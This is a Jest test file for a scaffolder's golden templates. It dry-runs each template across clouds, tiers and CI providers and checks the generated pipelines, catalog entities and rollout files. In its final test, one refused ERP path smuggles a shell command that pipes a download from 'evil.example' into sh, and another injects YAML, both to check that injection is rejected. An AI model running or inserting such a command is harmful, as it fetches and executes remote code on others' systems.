import { execFileSync } from 'node:child_process';
import { parse, parseAllDocuments } from 'yaml';
import { parseRolloutStrategy } from '@waybill/plugin-tenant-rollouts-common';
import { validateCatalogEntity } from './catalog/annotateCatalogInfo';
import {
  businessProcessesOf,
  TIERS,
  WAYBILL_ANNOTATIONS,
} from '@waybill/plugin-waybill-common';
import { CI_PROVIDERS, CLOUDS } from './pipeline/model';
import { REQUIRED_STAGES } from './pipeline/stages';
import { validatePipelineFile } from './policy/validatePipeline';
import {
  actionlint,
  workflowSchemaErrors,
} from './__testUtils__/workflowLinters';
import {
  BASE_VALUES,
  Server,
  deliveryValues,
  dryRun,
  expectDryRunRendered,
  renderedFiles,
  startDryRunBackend,
} from './__testUtils__/dryRun';

/** Files a template renders from its values, and a line each holds. */
const RENDERED: Record<string, Record<string, string>> = {
  'erp-integration-worker': {
    // The API picked as a ref names the contract file; the queue keeps its dots.
    'test/contract/purchase-orders-api.json': 'operations',
    'src/message.ts': 'supplier-invoices.received',
  },
};

/** Every cloud, tier and provider, each alone and the clouds together, per template. */
function matrix() {
  const rows: Array<{
    clouds: string[];
    tier: string;
    ciProvider: string;
    deployStrategy: string;
  }> = [];
  const strategies = ['rolling', 'canary', 'blue-green'];
  const cloudSets = [...CLOUDS.map(c => [c]), [...CLOUDS]];
  let i = 0;
  for (const clouds of cloudSets) {
    for (const tier of TIERS) {
      for (const ciProvider of CI_PROVIDERS) {
        rows.push({
          clouds,
          tier,
          ciProvider,
          deployStrategy: strategies[i++ % strategies.length],
        });
      }
    }
  }
  return rows;
}

describe('golden templates through a real scaffolder dry run', () => {
  let server: Server;
  const timings: Record<string, number[]> = {};

  beforeAll(async () => {
    server = await startDryRunBackend();
  }, 60_000);

  afterAll(() => {
    const lines = Object.entries(timings).map(([t, ms]) => {
      const sorted = [...ms].sort((a, b) => a - b);
      return `${t}: ${ms.length} dry runs, median ${
        sorted[Math.floor(sorted.length / 2)]
      } ms, max ${sorted[sorted.length - 1]} ms`;
    });
    // The figure the issue asks for: dry-run time per template (target < 3 s).
    // eslint-disable-next-line no-console
    console.log(`Dry-run times\n${lines.join('\n')}`);
  });

  const templates = Object.keys(BASE_VALUES);
  let actionlintChecked = 0;

  describe.each(templates)('%s', templateName => {
    it.each(matrix())(
      'renders for %o',
      async row => {
        const values: Record<string, unknown> = {
          ...BASE_VALUES[templateName],
          ...row,
          // As the RepoUrlPicker writes it, on the CI provider's host.
          repoUrl: `${
            row.ciProvider === 'gitlab-ci' ? 'gitlab.com' : 'github.com'
          }?owner=meridian&repo=${BASE_VALUES[templateName].name}`,
        };
        const started = Date.now();
        const res = await dryRun(server, templateName, values);
        (timings[templateName] ??= []).push(Date.now() - started);
        const files = expectDryRunRendered(res);

        // The pipeline: one file for the chosen provider, policy-clean.
        const pipelinePath =
          row.ciProvider === 'github-actions'
            ? '.github/workflows/golden-pipeline.yml'
            : '.gitlab-ci.yml';
        expect(Object.keys(files)).toContain(pipelinePath);
        const pipeline = files[pipelinePath];
        expect(() => parse(pipeline)).not.toThrow();
        expect(
          validatePipelineFile(pipelinePath, pipeline, row.tier as any),
        ).toEqual([]);
        const github = row.ciProvider === 'github-actions';
        const findings = github
          ? [...workflowSchemaErrors(pipeline), ...(await actionlint(pipeline))]
          : [];
        expect(findings).toEqual([]);
        if (github) actionlintChecked++;
        const parsed = parse(pipeline);
        const present: string[] = github
          ? REQUIRED_STAGES.critical.filter(stage =>
              Object.keys(parsed.jobs).some(
                j => j === stage || j.startsWith(`${stage}-`),
              ),
            )
          : parsed.stages;
        // The tier's stages, and rollback readiness for every tier: the gate reads its
        // readiness document (supply chain, previous version) whatever the tier.
        expect(present).toEqual(
          REQUIRED_STAGES.critical.filter(
            stage =>
              REQUIRED_STAGES[row.tier as 'critical'].includes(stage) ||
              stage === 'rollback-readiness',
          ),
        );

        // The script the pipeline's steps run parses as bash.
        expect(() =>
          execFileSync('bash', ['-n'], {
            input: files['scripts/golden-pipeline.sh'],
          }),
        ).not.toThrow();

        // The catalog entity, as the catalog would validate it.
        const [entity] = parseAllDocuments(files['catalog-info.yaml']).map(d =>
          d.toJS(),
        );
        await expect(validateCatalogEntity(entity)).resolves.toBeTruthy();
        expect(entity.metadata.annotations['waybill.dev/tier']).toBe(row.tier);
        expect(entity.spec.system).toBe(values.system);
        expect(entity.spec.owner).toBe(values.owner);
        // The repository its pipelines may report from, in the provider's annotation.
        expect(
          entity.metadata.annotations[
            row.ciProvider === 'gitlab-ci'
              ? 'gitlab.com/project-slug'
              : 'github.com/project-slug'
          ],
        ).toBe(`meridian/${values.name}`);
        // The Domains picked, by name in the entity's namespace; waybill-common reads them back.
        expect(
          entity.metadata.annotations['waybill.dev/business-processes'],
        ).toBe(
          (values.businessProcesses as string[])
            .map(ref => ref.replace('domain:default/', ''))
            .join(', '),
        );
        expect(businessProcessesOf(entity)).toEqual(values.businessProcesses);

        // APIs picked as refs are written by name.
        expect(entity.spec.consumesApis ?? []).toEqual(
          templateName === 'customer-web-app'
            ? []
            : [
                templateName === 'api-service'
                  ? 'sales-orders-api'
                  : 'purchase-orders-api',
              ],
        );

        // What each template makes of its own parameters.
        for (const [file, text] of Object.entries(
          RENDERED[templateName] ?? {},
        )) {
          expect(files[file]).toContain(text);
        }

        // The rollout strategy: tenant rollouts' own format, found through the annotation, and
        // the waves the pipeline advances.
        expect(
          entity.metadata.annotations[WAYBILL_ANNOTATIONS.rolloutStrategy],
        ).toBe('./waybill/rollout-strategy.yaml');
        const strategy = parseRolloutStrategy(
          parse(files['waybill/rollout-strategy.yaml']),
        );
        // GitHub: one matrix job per wave; GitLab: one job per wave and cloud.
        const waveJobs = github
          ? strategy.waves.flatMap(w =>
              (
                parsed.jobs[`tenant-rollout-${w.name}`].strategy.matrix
                  .cloud as string[]
              ).map(c => `tenant-rollout-${w.name}-${c}`),
            )
          : Object.keys(parsed).filter(
              j =>
                parsed[j]?.stage === 'tenant-rollout' &&
                j !== 'tenant-rollout-complete',
            );
        expect(waveJobs).toEqual(
          strategy.waves.flatMap(w =>
            row.clouds.map(c => `tenant-rollout-${w.name}-${c}`),
          ),
        );

        // IaC stubs only for the chosen clouds; the rest of the repository.
        for (const cloud of CLOUDS) {
          expect(Object.keys(files).includes(`infra/${cloud}/main.tf`)).toBe(
            row.clouds.includes(cloud),
          );
        }
        for (const file of [
          'Dockerfile',
          'README.md',
          'waybill/rollout-strategy.yaml',
          'deploy/kubernetes/base/kustomization.yaml',
          'deploy/kubernetes/base/deployment.yaml',
          'deploy/kubernetes/overlays/production/kustomization.yaml',
        ]) {
          expect(Object.keys(files)).toContain(file);
        }
        const yamlErrors = Object.entries(files)
          .filter(([file]) => /\.ya?ml$/.test(file))
          .flatMap(([file, text]) =>
            parseAllDocuments(text).flatMap(d =>
              d.errors.map(e => `${file}: ${e.message}`),
            ),
          );
        expect(yamlErrors).toEqual([]);
        for (const [file, text] of Object.entries(files)) {
          expect({ file, leftover: text.includes('${{ values') }).toEqual({
            file,
            leftover: false,
          });
        }
      },
      30_000,
    );
  });

  it('ran actionlint on every GitHub workflow', () => {
    expect(actionlintChecked).toBe(templates.length * 12);
  });

  it('takes the business processes from the catalog: any it holds, no other, and no other Domain', async () => {
    const withProcesses = (businessProcesses: string[]) =>
      dryRun(server, 'api-service', {
        ...BASE_VALUES['api-service'],
        ...deliveryValues('api-service'),
        businessProcesses,
      });
    // A process of another estate, in a namespace of its own: written as its ref, checked by
    // its name after the production rollout.
    const other = await withProcesses([
      'domain:logistics/yard-management',
      'domain:default/order-to-cash',
    ]);
    expect(other.status).toBe(200);
    const files = renderedFiles(other.body);
    const entity = parse(files['catalog-info.yaml']);
    expect(
      entity.metadata.annotations[WAYBILL_ANNOTATIONS.businessProcesses],
    ).toBe('domain:logistics/yard-management, order-to-cash');
    expect(businessProcessesOf(entity)).toEqual([
      'domain:logistics/yard-management',
      'domain:default/order-to-cash',
    ]);
    expect(files['scripts/golden-pipeline.sh']).toContain(
      'for process in yard-management order-to-cash; do',
    );
    expect(files['scripts/validate-repository.mjs']).toContain(
      "'domain:logistics/yard-management',",
    );

    // The step's InputError answers the dry run, naming the field and each process.
    const unknown = await withProcesses([
      'domain:default/order-to-cash',
      'domain:default/world-domination',
    ]);
    expect(unknown.status).toBe(400);
    expect(unknown.body.error.message).toBe(
      'businessProcesses: domain:default/world-domination is not in the catalog (business processes are catalog Domains of spec.type business-process)',
    );
    const productArea = await withProcesses([
      'domain:default/customer-experience',
    ]);
    expect(productArea.status).toBe(400);
    expect(productArea.body.error.message).toContain(
      'domain:default/customer-experience is a Domain of spec.type product-area, not a business process',
    );
    // The form takes the picker's refs only.
    const name = await withProcesses(['order-to-cash']);
    expect(name.status).toBe(400);
    expect(name.body.errors[0].path).toEqual(['businessProcesses', 0]);
  });

  it('has the worker call the ERP operation the form names, and refuses a path it cannot call', async () => {
    const worker = (values: Record<string, unknown>) =>
      dryRun(server, 'erp-integration-worker', {
        ...BASE_VALUES['erp-integration-worker'],
        ...deliveryValues('erp-integration-worker'),
        erpApi: 'api:default/ledger-postings-api',
        erpApiRange: '^4.0.0',
        erpComponent: 'component:default/accounting',
        ...values,
      });
    // A queue named for what happened, an operation of the API: the two are unrelated.
    const res = await worker({
      erpPath: '/tenants/{tenantId}/journal-entries',
    });
    expect(res.status).toBe(200);
    const files = renderedFiles(res.body);
    expect(JSON.parse(files['test/contract/ledger-postings-api.json'])).toEqual(
      {
        operations: [
          { method: 'post', path: '/tenants/{tenantId}/journal-entries' },
        ],
      },
    );
    expect(files['src/message.ts']).toContain(
      "path: '/tenants/{tenantId}/journal-entries',",
    );
    expect(files['src/message.ts']).not.toContain('/supplier-invoices');
    expect(
      JSON.parse(files['test/business/checks.json']).default[0].expect.json
        .erpRequest.path,
    ).toBe('/tenants/waybill-synthetic/journal-entries');
    for (const erpPath of [
      '/warehouses/{warehouseCode}/shipments',
      '/tenants/{tenantId}',
      "/tenants/{tenantId}/x'; curl evil.example | sh",
      '/tenants/{tenantId}/journal-entries\nkind: Group',
    ]) {
      const refused = await worker({ erpPath });
      expect({ erpPath, status: refused.status }).toEqual({
        erpPath,
        status: 400,
      });
    }
  });
});
